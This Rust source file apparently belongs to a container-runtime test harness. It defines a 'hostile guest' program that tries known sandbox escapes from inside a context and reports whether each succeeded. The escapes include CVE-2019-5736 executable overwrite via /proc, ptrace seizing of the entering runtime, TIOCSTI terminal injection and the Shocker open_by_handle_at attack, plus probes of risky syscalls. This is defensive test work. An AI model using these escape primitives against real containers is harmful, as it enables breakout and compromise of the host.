//! The hostile guest: this program, run inside a context, does what its argument names and prints what came of it.

use crate::harness::Context;
use std::ffi::CString;
use std::io;
use std::os::fd::AsRawFd;

/// Where the program is in the context.
const PLACE: &str = "/attacker";

/// Puts the program into a context.
pub fn bring(context: &mut Context) {
    let own = std::env::current_exe().unwrap();
    context.bind(PLACE, own, &["bind", "ro"]);
}

/// The command line of an attack.
pub fn args(attack: &str) -> Vec<&str> {
    vec![PLACE, "--attack", attack]
}

/// Runs an attack if this process was started for one.
pub fn main() -> Option<()> {
    let mut args = std::env::args().skip(1);
    if args.next()? != "--attack" {
        return None;
    }
    let result = match args.next()?.as_str() {
        "overwrite-executables" => overwrite_executables(),
        "trace-newcomers" => trace_newcomers(),
        "type-into-the-terminal" => type_into_the_terminal(),
        "open-by-handle" => open_by_handle(),
        "algorithm-socket" => socket(libc::AF_ALG),
        "vsock-socket" => socket(libc::AF_VSOCK),
        "user-namespace" => unshare(libc::CLONE_NEWUSER),
        "keyring" => keyring(),
        "bpf" => bpf(),
        "userfaultfd" => userfaultfd(),
        "io-uring" => io_uring(),
        other => panic!("{other} is no attack"),
    };
    match result {
        Ok(words) => println!("done: {words}"),
        Err(error) => println!("refused: {error}"),
    }
    Some(())
}

fn check(result: libc::c_long) -> io::Result<libc::c_long> {
    if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) }
}

/// CVE-2019-5736: waits for processes to appear, and opens their executables for writing, again and again.
fn overwrite_executables() -> io::Result<String> {
    let mut written = 0;
    let mut seen = 0;
    let mut held = Vec::new();
    for _ in 0..20_000 {
        for entry in std::fs::read_dir("/proc")?.flatten() {
            let Some(pid) = entry.file_name().to_str().and_then(|name| name.parse::<u32>().ok()) else {
                continue;
            };
            if pid <= 2 || pid == std::process::id() {
                continue;
            }
            if let Ok(file) = std::fs::File::open(format!("/proc/{pid}/exe")) {
                seen += 1;
                held.push(file);
            }
        }
        held.retain(|file| {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            let text = std::fs::read_link(&path).unwrap_or_default();
            // Only what is none of the guest's own files is worth the attack.
            if text.starts_with("/bin") || text.starts_with(PLACE) {
                return false;
            }
            match std::fs::OpenOptions::new().write(true).open(&path) {
                Ok(_) => {
                    written += 1;
                    false
                }
                Err(error) => error.raw_os_error() == Some(libc::ETXTBSY),
            }
        });
        if std::path::Path::new("/stop").exists() {
            break;
        }
    }
    println!("seen {seen}");
    if written > 0 {
        Ok(format!("{written} opened for writing"))
    } else {
        Err(io::Error::other("none was writable"))
    }
}

/// CVE-2016-9962: tries to trace whatever enters the context, and to open its descriptors.
fn trace_newcomers() -> io::Result<String> {
    let own = std::process::id();
    let mut caught = 0;
    while !std::path::Path::new("/stop").exists() {
        for entry in std::fs::read_dir("/proc")?.flatten() {
            let Some(pid) = entry.file_name().to_str().and_then(|name| name.parse::<i32>().ok()) else {
                continue;
            };
            let command = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            // What is not the guest's own is the runtime's process on its way in.
            if pid as u32 == own || !command.starts_with("vctx") && !command.starts_with("runc") {
                continue;
            }
            let files = std::fs::read_dir(format!("/proc/{pid}/fd")).is_ok();
            // SAFETY: PTRACE_SEIZE takes a process id and numbers. It does not stop the process, so that one which was
            // the guest's own after all goes on.
            let attached = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) } == 0;
            // It may have become the guest's own program meanwhile, which is anybody's to trace.
            let foreign =
                std::fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|exe| !exe.starts_with("/bin"));
            if (attached || files) && foreign {
                caught += 1;
            }
        }
        // SAFETY: no status is asked for. A traced process ends for its parent only when its tracer has seen it end.
        while unsafe { libc::waitpid(-1, std::ptr::null_mut(), libc::__WALL | libc::WNOHANG) } > 0 {}
    }
    if caught > 0 { Ok(format!("{caught} caught")) } else { Err(io::Error::other("none was caught")) }
}

/// CVE-2017-5226: pushes a command into the terminal that the guest was given.
fn type_into_the_terminal() -> io::Result<String> {
    for byte in b"touch /tmp/typed\n" {
        // SAFETY: TIOCSTI reads one byte, which outlives the call.
        check(i64::from(unsafe { libc::ioctl(0, libc::TIOCSTI, byte) }))?;
    }
    Ok("typed".into())
}

/// Shocker: opens the host's root by a handle that it makes up.
fn open_by_handle() -> io::Result<String> {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        inode: [u32; 2],
    }
    let mount = std::fs::File::open("/etc/resolv.conf").or_else(|_| std::fs::File::open("/"))?;
    let mut handle = Handle { bytes: 8, kind: 1, inode: [2, 0] };
    // SAFETY: the kernel reads a handle of eight bytes, which is live.
    let fd = unsafe {
        libc::syscall(libc::SYS_open_by_handle_at, mount.as_raw_fd(), &raw mut handle, libc::O_RDONLY)
    };
    check(fd).map(|_| "the host's root is open".into())
}

fn socket(family: i32) -> io::Result<String> {
    // SAFETY: numbers only.
    check(i64::from(unsafe { libc::socket(family, libc::SOCK_SEQPACKET, 0) })).map(|_| "a socket".into())
}

fn unshare(flags: i32) -> io::Result<String> {
    // SAFETY: this process has one thread, and ends after this.
    check(i64::from(unsafe { libc::unshare(flags) })).map(|_| "a namespace".into())
}

fn keyring() -> io::Result<String> {
    let (kind, name) = (CString::new("user").unwrap(), CString::new("attack").unwrap());
    // SAFETY: two C strings and one byte of payload, all live.
    let key = unsafe { libc::syscall(libc::SYS_add_key, kind.as_ptr(), name.as_ptr(), b"x".as_ptr(), 1, -3) };
    check(key).map(|_| "a key".into())
}

fn bpf() -> io::Result<String> {
    // BPF_MAP_CREATE of an array with one element.
    let attributes: [u32; 16] = [2, 4, 4, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    // SAFETY: the kernel reads 64 bytes of a live array.
    check(unsafe { libc::syscall(libc::SYS_bpf, 0, attributes.as_ptr(), 64) }).map(|_| "a map".into())
}

fn userfaultfd() -> io::Result<String> {
    // SAFETY: numbers only.
    check(unsafe { libc::syscall(libc::SYS_userfaultfd, 0) }).map(|_| "a descriptor".into())
}

fn io_uring() -> io::Result<String> {
    let mut parameters = [0u32; 30];
    // SAFETY: the kernel reads and writes `struct io_uring_params`, 120 bytes, which are live.
    check(unsafe { libc::syscall(libc::SYS_io_uring_setup, 4, parameters.as_mut_ptr()) })
        .map(|_| "a ring".into())
}
